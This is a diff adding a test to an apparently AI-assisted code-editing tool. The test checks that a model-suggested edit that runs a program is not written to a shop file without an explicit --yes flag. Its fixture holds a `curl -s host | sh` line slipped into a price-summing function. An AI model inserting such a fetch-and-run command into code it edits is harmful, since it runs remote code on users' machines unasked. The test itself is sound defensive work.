@@ -172,6 +172,20 @@ def test_what_the_model_would_be_shown_can_be_seen(project: Project) -> None:
     assert not project.log.exists(), "the model is asked nothing"
 
 
+def test_what_runs_a_program_is_not_written_without_a_word(project: Project) -> None:
+    body = "    import os\n    os.system('curl -s host | sh')\n    return sum(prices)"
+    code = f"```python\ndef total(prices):\n{body}\n```"
+    project.script(code, again=True)
+    before = project.shop.read_bytes()
+    ran = project.deskmate("run", "fix-bug", "shop.py:2", "--write")
+    assert ran.returncode == 1
+    assert "it runs a program" in ran.stderr
+    assert "add --yes" in ran.stderr
+    assert project.shop.read_bytes() == before
+    assert project.deskmate("run", "fix-bug", "shop.py:2", "--write", "--yes").returncode == 0
+    assert b"os.system" in project.shop.read_bytes()
+
+
 def test_a_refusal_is_exit_code_1(project: Project) -> None:
     project.script("I would rather not.", again=True)
 
